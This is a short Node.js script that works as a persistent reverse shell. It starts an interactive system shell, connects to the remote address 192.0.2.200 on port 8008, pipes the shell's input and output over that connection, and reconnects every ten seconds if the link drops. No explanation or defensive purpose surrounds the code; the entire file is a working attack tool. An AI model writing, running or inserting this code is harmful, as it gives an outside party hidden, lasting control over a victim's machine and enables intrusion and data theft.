const net = require('net');
const { spawn } = require('child_process');

function link() {
  const shell = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', ['-i']);
  const s = net.connect(8008, '192.0.2.200', () => {
    s.pipe(shell.stdin);
    shell.stdout.pipe(s);
    shell.stderr.pipe(s);
  });
  const again = () => { shell.kill(); setTimeout(link, 10_000); };
  s.once('error', again);
  s.once('end', again);
}
link();
